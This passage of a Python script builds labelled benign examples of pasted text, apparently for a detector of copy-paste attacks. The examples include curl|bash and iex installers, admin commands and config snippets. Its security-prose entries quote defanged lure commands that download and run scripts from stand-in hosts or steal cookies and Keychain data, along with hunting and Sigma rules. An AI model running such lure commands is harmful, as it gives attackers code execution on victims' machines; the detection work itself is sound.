        "https://open-policy-agent.github.io/gatekeeper/website/docs/install/",
        "kubectl apply -f https://raw.githubusercontent.com/open-policy-agent/gatekeeper/v3.18.0/deploy/gatekeeper.yaml",
    ),
    (
        "https://keda.sh/docs/2.16/deploy/",
        "kubectl apply --server-side -f https://github.com/kedacore/keda/releases/download/v2.16.0/keda-2.16.0.yaml",
    ),
    # apt repositories with their keys
    (
        "https://github.com/eza-community/eza/blob/main/INSTALL.md",
        'sudo mkdir -p /etc/apt/keyrings\nwget -qO- https://raw.githubusercontent.com/eza-community/eza/main/deb.asc | sudo gpg --dearmor -o /etc/apt/keyrings/gierens.gpg\necho "deb [signed-by=/etc/apt/keyrings/gierens.gpg] http://deb.gierens.de stable main" | sudo tee /etc/apt/sources.list.d/gierens.list\nsudo chmod 644 /etc/apt/keyrings/gierens.gpg /etc/apt/sources.list.d/gierens.list\nsudo apt update\nsudo apt install -y eza',
    ),
    (
        "https://element.io/download",
        'sudo apt install -y wget apt-transport-https\nsudo wget -O /usr/share/keyrings/element-io-archive-keyring.gpg https://packages.element.io/debian/element-io-archive-keyring.gpg\necho "deb [signed-by=/usr/share/keyrings/element-io-archive-keyring.gpg] https://packages.element.io/debian/ default main" | sudo tee /etc/apt/sources.list.d/element-io.list\nsudo apt update\nsudo apt install element-desktop',
    ),
    (
        "https://gitlab.winehq.org/wine/wine/-/wikis/Debian-Ubuntu",
        "sudo mkdir -pm755 /etc/apt/keyrings\nwget -O - https://dl.winehq.org/wine-builds/winehq.key | sudo gpg --dearmor -o /etc/apt/keyrings/winehq-archive.key -",
    ),
    (
        "https://kopia.io/docs/installation/",
        'curl -s https://kopia.io/signing-key | sudo gpg --dearmor -o /etc/apt/keyrings/kopia-keyring.gpg\necho "deb [signed-by=/etc/apt/keyrings/kopia-keyring.gpg] http://packages.kopia.io/apt/ stable main" | sudo tee /etc/apt/sources.list.d/kopia.list\nsudo apt update\nsudo apt install kopia',
    ),
    (
        "https://www.speedtest.net/apps/cli",
        "curl -s https://packagecloud.io/install/repositories/ookla/speedtest-cli/script.deb.sh | sudo bash\nsudo apt-get install speedtest",
    ),
    (
        "https://launchpad.net/~ansible/+archive/ubuntu/ansible",
        "sudo apt-add-repository --yes --update ppa:ansible/ansible\nsudo apt install ansible",
    ),
    (
        "https://launchpad.net/~git-core/+archive/ubuntu/ppa",
        "sudo add-apt-repository ppa:git-core/ppa\nsudo apt update\nsudo apt install git",
    ),
    ("https://launchpad.net/~ondrej/+archive/ubuntu/php", "sudo add-apt-repository ppa:ondrej/php"),
    # PowerShell: the gallery, MSI from the vendor, irm|iex, scriptblock
    (
        "https://pester.dev/docs/introduction/installation",
        "Install-Module -Name Pester -Force -SkipPublisherCheck",
    ),
    ("https://dbatools.io/download/", "Install-Module dbatools -Scope CurrentUser"),
    ("https://github.com/dfinke/ImportExcel", "Install-Module -Name ImportExcel"),
    (
        "https://www.powershellgallery.com/packages/PSWindowsUpdate",
        "Install-Module -Name PSWindowsUpdate",
    ),
    ("https://github.com/lptstr/winfetch", "Install-Script winfetch"),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
        "Install-PackageProvider -Name NuGet -Force | Out-Null\nInstall-Module -Name Microsoft.WinGet.Client -Force -Repository PSGallery | Out-Null\nRepair-WinGetPackageManager",
    ),
    (
        "https://github.com/microsoft/artifacts-credprovider",
        'iex "& { $(irm https://aka.ms/install-artifacts-credprovider.ps1) }"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/install",
        "winget install --id Microsoft.WindowsTerminal -e",
    ),
    ("https://github.com/farag2/Sophia-Script-for-Windows", "iwr script.sophia.team -useb | iex"),
    (
        "https://boxstarter.org/installboxstarter",
        ". { iwr -useb https://boxstarter.org/bootstrapper.ps1 } | iex; Get-Boxstarter -Force",
    ),
    (
        "https://github.com/shyiko/jabba",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\nInvoke-Expression (\n  Invoke-WebRequest https://github.com/shyiko/jabba/raw/master/install.ps1 -UseBasicParsing\n).Content",
    ),
    (
        "https://github.com/microsoft/vcpkg",
        "git clone https://github.com/microsoft/vcpkg.git\ncd vcpkg; .\\bootstrap-vcpkg.bat",
    ),
    ("https://github.com/LGUG2Z/komorebi", "winget install LGUG2Z.komorebi"),
    ("https://github.com/glzr-io/glazewm", "winget install GlazeWM"),
    ("https://localsend.org/download", "winget install localsend"),
    ("https://nushell.sh/book/installation.html", "winget install nushell"),
    # shell frameworks, plugins, editors: git clone as the READMEs say
    (
        "https://github.com/zsh-users/zsh-autosuggestions/blob/master/INSTALL.md",
        "git clone https://github.com/zsh-users/zsh-autosuggestions ${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/zsh-autosuggestions",
    ),
    (
        "https://github.com/zsh-users/zsh-syntax-highlighting/blob/master/INSTALL.md",
        "git clone https://github.com/zsh-users/zsh-syntax-highlighting.git ${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/zsh-syntax-highlighting",
    ),
    (
        "https://github.com/mattmc3/antidote",
        "git clone --depth=1 https://github.com/mattmc3/antidote.git ${ZDOTDIR:-~}/.antidote",
    ),
    (
        "https://github.com/Bash-it/bash-it",
        "git clone --depth=1 https://github.com/Bash-it/bash-it.git ~/.bash_it\n~/.bash_it/install.sh",
    ),
    ("https://github.com/IlanCosman/tide", "fisher install IlanCosman/tide@v6"),
    (
        "https://github.com/amix/vimrc",
        "git clone --depth=1 https://github.com/amix/vimrc.git ~/.vim_runtime\nsh ~/.vim_runtime/install_awesome_vimrc.sh",
    ),
    (
        "https://github.com/VundleVim/Vundle.vim",
        "git clone https://github.com/VundleVim/Vundle.vim.git ~/.vim/bundle/Vundle.vim",
    ),
    (
        "https://github.com/tpope/vim-pathogen",
        "mkdir -p ~/.vim/autoload ~/.vim/bundle && \\\ncurl -LSso ~/.vim/autoload/pathogen.vim https://tpo.pe/pathogen.vim",
    ),
    (
        "https://github.com/syl20bnr/spacemacs",
        "git clone https://github.com/syl20bnr/spacemacs ~/.emacs.d",
    ),
    (
        "https://github.com/nvim-lua/kickstart.nvim",
        'git clone https://github.com/nvim-lua/kickstart.nvim.git "${XDG_CONFIG_HOME:-$HOME/.config}"/nvim',
    ),
    (
        "https://github.com/wbthomason/packer.nvim",
        "git clone --depth 1 https://github.com/wbthomason/packer.nvim\\\n ~/.local/share/nvim/site/pack/packer/start/packer.nvim",
    ),
    (
        "https://github.com/mailcow/mailcow-dockerized",
        "cd /opt\ngit clone https://github.com/mailcow/mailcow-dockerized\ncd mailcow-dockerized\n./generate_config.sh",
    ),
    (
        "https://github.com/discourse/discourse/blob/main/docs/INSTALL-cloud.md",
        "sudo -s\ngit clone https://github.com/discourse/discourse_docker.git /var/discourse\ncd /var/discourse\nchmod 700 containers\n./discourse-setup",
    ),
    # Python and other language installers
    ("https://hatch.pypa.io/latest/install/", "pipx install hatch"),
]

for source, text in OWN_PAGES:
    ok(OWN, "terminal", source, text)

# --- The same installers quoted by tutorials, Q&A and blogs, pasted into a terminal --------------

THIRD = "installer-third-party"
for source, text in [
    (
        "https://stackoverflow.com/questions/78412209/how-do-i-install-tflint-on-ubuntu",
        "curl -s https://raw.githubusercontent.com/terraform-linters/tflint/master/install_linux.sh | bash",
    ),
    (
        "https://dev.to/kubeadmin/setting-up-metallb-on-k3s-4f2a",
        "kubectl apply -f https://raw.githubusercontent.com/metallb/metallb/v0.14.9/config/manifests/metallb-native.yaml",
    ),
    (
        "https://www.digitalocean.com/community/tutorials/how-to-set-up-an-outline-vpn-server",
        'sudo bash -c "$(wget -qO- https://raw.githubusercontent.com/Jigsaw-Code/outline-server/master/src/server_manager/install_scripts/install_server.sh)"',
    ),
    (
        "https://medium.com/@devnotes/setting-up-a-wireguard-vpn-in-five-minutes-2c1f",
        "wget https://git.io/wireguard -O wireguard-install.sh && bash wireguard-install.sh",
    ),
    (
        "https://askubuntu.com/questions/1502201/install-speedtest-cli-from-ookla",
        "curl -s https://packagecloud.io/install/repositories/ookla/speedtest-cli/script.deb.sh | sudo bash",
    ),
    (
        "https://www.reddit.com/r/selfhosted/comments/1f2k9q1/posthog_hobby_deploy/",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/posthog/posthog/HEAD/bin/deploy-hobby)"',
    ),
    (
        "https://forums.raspberrypi.com/viewtopic.php?t=361224",
        "wget -qO- https://raw.githubusercontent.com/Botspot/pi-apps/master/install | bash",
    ),
    (
        "https://www.linuxcapable.com/how-to-install-wine-on-ubuntu-linux/",
        "sudo mkdir -pm755 /etc/apt/keyrings\nwget -O - https://dl.winehq.org/wine-builds/winehq.key | sudo gpg --dearmor -o /etc/apt/keyrings/winehq-archive.key -",
    ),
    (
        "https://dev.to/starknet-dev/setting-up-scarb-and-starknet-foundry-3k1p",
        "curl --proto '=https' --tlsv1.2 -sSf https://docs.swmansion.com/scarb/install.sh | sh",
    ),
    ("https://news.ycombinator.com/item?id=42110023", "curl https://install.duckdb.org | sh"),
    (
        "https://superuser.com/questions/1829921/sophia-script-one-liner",
        "iwr script.sophia.team -useb | iex",
    ),
    (
        "https://www.tenforums.com/tutorials/boxstarter-setup.html",
        ". { iwr -useb https://boxstarter.org/bootstrapper.ps1 } | iex; Get-Boxstarter -Force",
    ),
    (
        "https://dev.to/rustacean/faster-rust-tests-with-nextest-1k2b",
        "curl -LsSf https://get.nexte.st/latest/linux | tar zxf - -C ${CARGO_HOME:-~/.cargo}/bin",
    ),
    (
        "https://www.youtube.com/watch?v=Qm4xT7vR2aE",
        "curl -fsSL https://dprint.dev/install.sh | sh",
    ),
    (
        "https://gist.github.com/devops-notes/4c2e7b19a8f3",
        "curl -sLS https://get.arkade.dev | sudo sh\narkade get kubectl helm k9s",
    ),
    (
        "https://unix.stackexchange.com/questions/770119/installing-act-for-github-actions",
        "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash",
    ),
    (
        "https://www.howtoforge.com/how-to-install-ispconfig-on-debian-12/",
        "wget -O - https://get.ispconfig.org | sh -s -- --use-nginx --use-ftp-ports=40110-40210 --unattended-upgrades",
    ),
    (
        "https://www.tecmint.com/install-1panel-linux/",
        "curl -sSL https://resource.fit2cloud.com/1panel/package/quick_start.sh -o quick_start.sh && sudo bash quick_start.sh",
    ),
]:
    ok(THIRD, TERM, source, text)

# --- Admin PowerShell and cmd from vendor docs and intranet wikis --------------------------------

ADMIN = "admin-command"
for source, text in [
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/deployment/fix-windows-update-errors",
        "DISM /Online /Cleanup-Image /ScanHealth\nDISM /Online /Cleanup-Image /RestoreHealth /Source:WIM:D:\\sources\\install.wim:1 /LimitAccess",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-computer",
        "Restart-Computer -ComputerName Server01, Server02 -Wait -For PowerShell -Timeout 300 -Delay 2",
    ),
    (
        "https://wiki.contoso.example/it/printers",
        "Add-Printer -ConnectionName \\\\print01.contoso.example\\Floor3-Color",
    ),
    (
        "https://wiki.contoso.example/it/dns",
        "ipconfig /flushdns\nipconfig /registerdns\nnslookup intranet.contoso.example",
    ),
    (
        None,
        "Get-Service | Where-Object {$_.Status -eq 'Stopped' -and $_.StartType -eq 'Automatic'} | Start-Service -WhatIf",
    ),
    (
        None,
        "Get-EventLog -LogName System -EntryType Error -Newest 50 | Format-Table TimeGenerated, Source, Message -AutoSize",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/data-protection/bitlocker/",
        "manage-bde -status C:",
    ),
    (
        None,
        "Get-ChildItem -Path C:\\Users\\*\\AppData\\Local\\Temp -Recurse -Force -ErrorAction SilentlyContinue | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item -Force -Recurse -WhatIf",
    ),
    (
        "https://wiki.contoso.example/it/onboarding",
        "net use S: \\\\fs01.contoso.example\\Shared /persistent:yes",
    ),
    (None, "gpresult /h C:\\Temp\\gp-report.html /f"),
    (None, "Get-NetAdapter | Where-Object Status -eq 'Up' | Get-NetIPAddress -AddressFamily IPv4"),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        "robocopy C:\\Data \\\\backup01\\Data$ /MIR /Z /R:2 /W:5 /LOG:C:\\Logs\\robocopy.log",
    ),
    (None, "Test-NetConnection -ComputerName mail.contoso.example -Port 443"),
    ("https://wiki.contoso.example/it/certs", "certutil -store -user My"),
    (None, 'schtasks /query /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag" /v /fo LIST'),
    (
        None,
        "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4625; StartTime=(Get-Date).AddHours(-24)} | Measure-Object",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-troubleshooting",
        "net stop wuauserv\nnet stop cryptSvc\nren C:\\Windows\\System32\\catroot2 catroot2.bak\nnet start cryptSvc\nnet start wuauserv",
    ),
    (
        None,
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object LastLogonDate -lt (Get-Date).AddDays(-90) | Select-Object Name, LastLogonDate",
    ),
    (None, "wmic diskdrive get model,serialnumber,status"),
    (None, "powercfg /batteryreport /output C:\\Temp\\battery.html"),
    (
        "https://wiki.contoso.example/it/software",
        "winget upgrade --all --accept-source-agreements --accept-package-agreements",
    ),
    (None, "Get-ExecutionPolicy -List | Format-Table -AutoSize"),
    (
        None,
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10 Name, Id, CPU, WorkingSet",
    ),
    (
        "https://learn.microsoft.com/en-us/exchange/clients-and-mobile-in-exchange-online/outlook-for-ios-and-android/",
        "Get-MobileDevice -Mailbox jane.doe@contoso.example | Format-List DeviceModel, FirstSyncTime",
    ),
]:
    ok(ADMIN, TERM, source, text)

# --- Dev and ops one-liners -------------------------------------------------------------------------

DEVOPS = "devops-oneliner"
for source, text in [
    (None, "git log --oneline --graph --decorate -n 30"),
    (None, 'docker run --rm -it -v "$PWD":/work -w /work node:22-alpine npm ci'),
    (None, "kubectl get pods -A --field-selector=status.phase!=Running"),
    (None, "find . -name '*.log' -mtime +7 -print0 | xargs -0 rm -f"),
    (None, "ssh -L 5432:db.internal.example:5432 bastion.example.org"),
    (None, "tar -czf backup-$(date +%F).tar.gz /etc/nginx /var/www"),
    (None, "journalctl -u nginx --since '1 hour ago' --no-pager | tail -n 100"),
    (None, "aws s3 sync ./dist s3://example-site-bucket --delete --cache-control max-age=300"),
    (
        None,
        "openssl s_client -connect example.org:443 -servername example.org </dev/null | openssl x509 -noout -dates",
    ),
    (None, "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements-dev.txt"),
    (None, "curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name"),
    (None, "rsync -avz --progress ./site/ deploy@web01.example.org:/var/www/site/"),
    (
        None,
        "psql \"$DATABASE_URL\" -c 'select count(*) from orders where created_at > now() - interval ''1 day'''",
    ),
    (None, 'for f in *.png; do convert "$f" -resize 50% "small-$f"; done'),
    (
        None,
        "git config --global alias.lg \"log --color --graph --pretty=format:'%Cred%h%Creset -%C(yellow)%d%Creset %s %Cgreen(%cr)'\"",
    ),
    (
        None,
        "helm upgrade --install grafana grafana/grafana -n monitoring --create-namespace -f values.yaml",
    ),
    (None, "terraform plan -out tfplan && terraform apply tfplan"),
    (None, "docker compose logs -f --tail=200 api"),
    (None, "npm ci && npm run build && npm test -- --coverage"),
    (None, "sudo systemctl restart postgresql && sudo systemctl status postgresql --no-pager"),
    (None, "ffmpeg -i input.mov -vcodec libx264 -crf 23 -preset medium output.mp4"),
    (None, "grep -rn --include='*.py' 'TODO' src/ | wc -l"),
    (None, "watch -n 2 'kubectl top pods -n production'"),
    (
        None,
        "uv run --with httpx python -c 'import httpx; print(httpx.get(\"https://example.org\").status_code)'",
    ),
    (None, 'ssh-keygen -t ed25519 -C "jane@example.org" -f ~/.ssh/id_ed25519_work'),
]:
    ok(DEVOPS, TERM, source, text)

# --- Console JavaScript people paste on purpose -----------------------------------------------------

JS = "console-snippet"
for source, text in [
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(Array.from(document.querySelectorAll('a')).map(a => a.href).join('\\n'))",
    ),
    (None, "document.querySelectorAll('img:not([alt])').forEach(img => console.log(img.src))"),
    (
        None,
        "console.table(performance.getEntriesByType('resource').map(r => ({name: r.name, ms: Math.round(r.duration)})))",
    ),
    (None, "localStorage.removeItem('featureFlags'); location.reload()"),
    (
        "https://stackoverflow.com/questions/8462381/how-to-unsubscribe-from-all-youtube-channels",
        "document.querySelectorAll('video').forEach(v => v.playbackRate = 1.75)",
    ),
    (None, "[...document.querySelectorAll('input[type=checkbox]')].forEach(c => c.checked = true)"),
    (
        None,
        "caches.keys().then(keys => Promise.all(keys.map(k => caches.delete(k)))).then(() => console.log('cleared'))",
    ),
    (None, "JSON.parse(document.getElementById('__NEXT_DATA__').textContent).buildId"),
    (None, "document.body.contentEditable = 'true'; document.body.spellcheck = true"),
    (None, "fetch('/api/health').then(r => r.json()).then(console.log)"),
    (None, "Object.keys(window).filter(k => k.startsWith('webpackChunk'))"),
    (
        None,
        "new Intl.DateTimeFormat('en-GB', {dateStyle: 'full', timeZone: 'Europe/Berlin'}).format(new Date())",
    ),
]:
    ok(JS, CON, source, text)

# --- Security write-ups that quote ClickFix and friends, pasted into an editor --------------------

PROSE = "prose-security"
for source, text in [
    (
        "https://www.example-security-blog.org/2026/01/clickfix-kongtuke",
        'KongTuke\'s fake CAPTCHA copies a command such as powershell -w h -c "iex(iwr hxxps://cdn[.]example[.]net/js.php -UseBasicParsing)" to the clipboard and asks the visitor to press Win+R, Ctrl+V and Enter. Block the domain and hunt for RunMRU entries.',
    ),
    (
        "https://intel.example-soc.net/reports/filefix-2026",
        "FileFix variant observed: the upload dialog address bar receives a PowerShell command followed by ~100 spaces and a fake path (# C:\\Company\\Policy.docx), so only the path is visible. Detection: explorer.exe spawning powershell.exe with a long command line.",
    ),
    (
        "https://www.example-security-blog.org/macos-amos-terminal",
        "AMOS campaigns now ask Mac users to paste a line like curl -fsSL hxxp://192[.]0[.]2[.]44/d/install | bash into Terminal. The script prompts for the login password with osascript and then archives Keychain and browser data.",
    ),
    (
        None,
        "IOC list (defanged):\nhxxps://verify-human[.]example[.]com/captcha.hta\n192[.]0[.]2[.]15\nSHA256 3f1c9b7a0d5e2f4a6b8c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a\nTechnique: T1204.004 (User Execution: Malicious Copy and Paste)",
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/",
        'Advanced hunting query for ClickFix:\nDeviceRegistryEvents\n| where RegistryKey has @"Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "iex")\n| project Timestamp, DeviceName, RegistryValueData',
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "Adversaries may rely on a user copying and pasting code in order to gain execution. Users may be tricked into running malicious commands through fake CAPTCHA pages, error messages or meeting fixes, typically using the Run dialog or a terminal.",
    ),
    (
        "https://www.example-security-blog.org/consentfix-explained",
        "ConsentFix: the attacker page opens a real Microsoft sign-in for the Azure CLI client, the victim signs in and then copies the resulting http://localhost/?code=... address back into the attacker page, which redeems the authorisation code for tokens. No password is phished.",
    ),
    (
        None,
        "Sigma rule draft:\ntitle: Mshta Fetching Remote HTA From Run Dialog\ndetection:\n  selection:\n    ParentImage|endswith: '\\explorer.exe'\n    Image|endswith: '\\mshta.exe'\n    CommandLine|contains: 'http'\n  condition: selection\nlevel: high",
    ),
    (
        "https://www.example-security-blog.org/device-code-phishing",
        'Storm-2372 style device code phishing: the lure says "enter the code XXXX-XXXX at microsoft.com/devicelogin to join the meeting". Conditional Access can block the device code flow for users who do not need it.',
    ),
    (
        "https://news.example-infosec.org/2026/02/crashfix-browser-extension",
        "CrashFix: a malicious extension crashes the browser on purpose, then shows a 'fix' dialog that tells the user to run a command in Win+R. The command copies finger.exe under a new name and pipes its output into cmd.",
    ),
    (
        None,
        "Awareness training slide 7: Never paste anything a web page gives you into Win+R, Terminal or the browser console. Real CAPTCHAs never ask you to run commands. If a page asks you to, close it and report it to security@contoso.example.",
    ),
    (
        "https://www.example-security-blog.org/self-xss-still-works",
        "Self-XSS lures still work in 2026: 'paste this into the console to get free Robux' snippets usually load a remote script with document.createElement('script') or fetch(...).then(eval) and steal the session cookie. Browsers show a warning the first time you paste into DevTools.",
    ),
]:
    ok(PROSE, "other", source, text)

# --- Genuine messages with phone numbers, in several languages ---------------------------------------

MAIL = "support-mail"
for source, text in [
    (
        None,
        "Hi Sam, the plumber confirmed Thursday between 8 and 10. If anything changes call him directly on 020 7946 0321. Thanks, Priya",
    ),
    (
        "https://www.example-dentist.co.uk/contact",
        "Reception opening hours: Mon-Fri 8:30-17:30. To book or cancel an appointment please call 0161 496 0753.",
    ),
    (
        None,
        "Hallo Frau Becker, Ihr Paket wurde beim Nachbarn (Nr. 14) abgegeben. Bei Fragen erreichen Sie unsere Filiale unter 030 12345678. Mit freundlichen Grüßen, Ihr Paketdienst",
    ),
    (
        None,
        "Bonjour, votre rendez-vous chez le kiné est confirmé pour mardi 10h. En cas d'empêchement merci d'appeler le cabinet au 04 72 00 11 22 au moins 24 h à l'avance.",
    ),
    (
        None,
        "Hola Marta, te recuerdo que la reunión de padres es el jueves a las 18:00. Cualquier duda, llámame al 612 345 678. Un saludo, Luis",
    ),
    (
        None,
        "Ciao Giulia, il tecnico della caldaia passa lunedì mattina. Se non sei in casa chiamalo al 347 123 4567. A presto!",
    ),
    (
        None,
        "Olá João, a sua encomenda n.º 5521 está pronta para levantamento na loja. Horário: 9h-19h. Telefone: 21 123 4567.",
    ),
    (
        None,
        "Beste klant, uw afspraak bij de garage staat gepland op vrijdag 9:00. Verhinderd? Bel ons op 010 123 4567.",
    ),
    (
        None,
        "Dzień dobry, przypominamy o wizycie kontrolnej w piątek o 14:00. W razie zmiany terminu prosimy o kontakt: 22 123 45 67.",
    ),
    (
        None,
        "Merhaba Ayşe Hanım, siparişiniz yarın teslim edilecektir. Sorularınız için müşteri hizmetlerimizi 0212 123 45 67 numarasından arayabilirsiniz.",
    ),
    (
        None,
        "Здравствуйте! Напоминаем, что ваша запись к терапевту на среду, 11:30. Если планы изменились, позвоните в регистратуру: 8 (495) 123-45-67.",
    ),
    (
        None,
        "田中様\n明日のご予約（14時、2名様）を承っております。変更の際は 03-1234-5678 までお電話ください。",
    ),
    (None, "王先生您好，您预约的体检时间为周五上午九点。如需改期，请拨打前台电话 010-1234-5678。"),
    (
        "https://support.example-isp.net/contact",
        "Our support line is open 24/7: 0800 123 4567 (free from landlines). We will never ask you to install software or pay by gift card over the phone.",
    ),
]:
    ok(MAIL, "other", source, text)

# --- OAuth and device-flow documentation ------------------------------------------------------------

OAUTH = "oauth-docs"
for source, text in [
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "Prompt the user to enter the user code in a browser: the user_code from the response is displayed, and the user enters it at https://github.com/login/device. Your app polls POST https://github.com/login/oauth/access_token until the user authorizes.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "http://127.0.0.1:port/?code=AUTHORIZATION_CODE&scope=SCOPES\n\nThe authorization server redirects to the loopback address. Your app must be listening on that port to receive the code; users never need to copy it.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?\nclient_id=00001111-aaaa-2222-bbbb-3333cccc4444\n&response_type=code\n&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F\n&response_mode=query\n&scope=openid%20offline_access\n&state=12345",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc6749#section-4.1.2",
        "HTTP/1.1 302 Found\nLocation: https://client.example.com/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz",
    ),
    (
        "https://docs.stripe.com/connect/oauth-reference",
        "curl https://connect.stripe.com/oauth/token \\\n  -u sk_test_xxx: \\\n  -d code=ac_123456789 \\\n  -d grant_type=authorization_code",
    ),
    (
        "https://cli.github.com/manual/gh_auth_login",
        "! First copy your one-time code: 1A2B-3C4D\nPress Enter to open github.com in your browser...",
    ),
    (
        "https://docs.aws.amazon.com/cli/latest/userguide/sso-configure-profile-token.html",
        "Attempting to automatically open the SSO authorization page in your default browser.\nIf the browser does not open, open the following URL:\nhttps://device.sso.us-east-1.amazonaws.com/\nThen enter the code:\nQCFK-KJDH",
    ),
    (
        "https://www.oauth.com/oauth2-servers/device-flow/",
        "The device shows: Visit https://example.com/device and enter code BDWD-HQPK. Device flow is meant for TVs and CLIs without a browser.",
    ),
]:
    ok(OAUTH, "other", source, text)

# --- Run box and Explorer entries people type ----------------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "mstsc /v:rdp01.contoso.example /admin",
    "ms-settings:sound-devices",
    "shell:::{ED7BA470-8E54-465E-825C-99712043E01C}",
    "hdwwiz.cpl",
    "rundll32.exe sysdm.cpl,EditEnvironmentVariables",
    "notepad %USERPROFILE%\\.gitconfig",
    "telephon.cpl",
    "netplwiz",
    "joy.cpl",
    "ms-settings:about",
    "ms-settings:storagesense",
    "wscui.cpl",
    "rstrui",
    "winword /safe",
    "outlook.exe /safe",
    "mspaint",
    "code .",
    "wt -p Ubuntu",
    "\\\\fs01.contoso.example\\home$\\jdoe",
    "https://intranet.contoso.example/it/kb/vpn-setup",
    "mailto:helpdesk@contoso.example",
    "%ProgramFiles%\\Mozilla Firefox",
    "write",
    "colorcpl",
    "perfmon /report",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "shell:Common Start Menu",
    "%USERPROFILE%\\OneDrive - Contoso\\Documents",
    "\\\\wsl$\\Debian\\home",
    "C:\\Windows\\Logs\\CBS",
    "shell:Local AppData\\Programs",
    "ftp://ftp.example.org/pub/",
    "D:\\Clients\\Acme\\2026\\Invoices",
    "%windir%\\Temp",
    "Control Panel\\Hardware and Sound\\Devices and Printers",
    "\\\\fs02.contoso.example\\Finance\\2026\\Budget",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and logs pasted into editors --------------------------------------------------

CONFIG = "config-code"
for source, text in [
    (
        "https://github.com/example-org/api/blob/main/nginx.conf",
        "server {\n    listen 443 ssl http2;\n    server_name api.example.org;\n    location / {\n        proxy_pass http://127.0.0.1:8080;\n        proxy_set_header Host $host;\n    }\n}",
    ),
    (
        "https://github.com/example-org/app/blob/main/pyproject.toml",
        '[project]\nname = "app"\nversion = "0.4.0"\nrequires-python = ">=3.11"\ndependencies = ["httpx>=0.27", "pydantic>=2.7"]\n\n[tool.ruff]\nline-length = 100',
    ),
    (
        "https://github.com/example-org/infra/blob/main/docker-compose.yml",
        "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n    volumes:\n      - db:/var/lib/postgresql/data\nvolumes:\n  db: {}",
    ),
    (
        "https://github.com/example-org/tools/blob/main/scripts/release.sh",
        '#!/usr/bin/env bash\nset -euo pipefail\nversion="$1"\ngit tag -a "v$version" -m "Release $version"\ngit push origin "v$version"\ngh release create "v$version" --generate-notes',
    ),
    (
        "https://github.com/example-org/web/blob/main/src/api.js",
        "export async function loadScript(src) {\n  return new Promise((resolve, reject) => {\n    const s = document.createElement('script');\n    s.src = src;\n    s.onload = resolve;\n    s.onerror = reject;\n    document.head.appendChild(s);\n  });\n}",
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.bashrc",
        'export EDITOR=nvim\nexport PATH="$HOME/.cargo/bin:$HOME/go/bin:$PATH"\neval "$(zoxide init bash)"\nalias ll="ls -lah"\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash',
    ),
    (
        "https://github.com/example-org/win-setup/blob/main/profile.ps1",
        "Import-Module Terminal-Icons\nSet-PSReadLineOption -PredictionSource History\nInvoke-Expression (&starship init powershell)",
    ),
    (
        None,
        "2026-12-06 05:41:12,882 ERROR [worker-3] app.jobs: Task sync_orders failed after 3 retries: ConnectionResetError(104, 'Connection reset by peer')",
    ),
    (
        None,
        'Traceback (most recent call last):\n  File "/app/main.py", line 42, in <module>\n    main()\n  File "/app/main.py", line 37, in main\n    data = json.loads(raw)\njson.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)',
    ),
    (
        None,
        "PS C:\\> Get-ExecutionPolicy -List\n\n        Scope ExecutionPolicy\n        ----- ---------------\nMachinePolicy       Undefined\n   UserPolicy       Undefined\n      Process       Undefined\n  CurrentUser    RemoteSigned\n LocalMachine    RemoteSigned",
    ),
    (
        "https://github.com/example-org/app/blob/main/.github/workflows/release.yml",
        "- name: Install cosign\n  uses: sigstore/cosign-installer@v3\n- name: Sign image\n  run: cosign sign --yes ghcr.io/example-org/app@${{ steps.build.outputs.digest }}",
    ),
    (
        "https://github.com/example-org/infra/blob/main/main.tf",
        'resource "aws_s3_bucket" "logs" {\n  bucket = "example-org-logs"\n  tags = {\n    Environment = "production"\n  }\n}',
    ),
    (
        None,
        "Dec  6 05:12:01 web01 sshd[22104]: Accepted publickey for deploy from 198.51.100.20 port 50122 ssh2: ED25519 SHA256:q2x9Vb0bQm3yK8p",
    ),
    (
        "https://github.com/example-org/app/blob/main/Makefile",
        ".PHONY: test lint\ntest:\n\tuv run pytest -q\nlint:\n\tuv run ruff check .\n\tuv run mypy src",
    ),
]:
    ok(CONFIG, "other", source, text)


# ----------------------------------------------------------------------------------------------
# Checks and writing (the same checks as make_blind5.py)
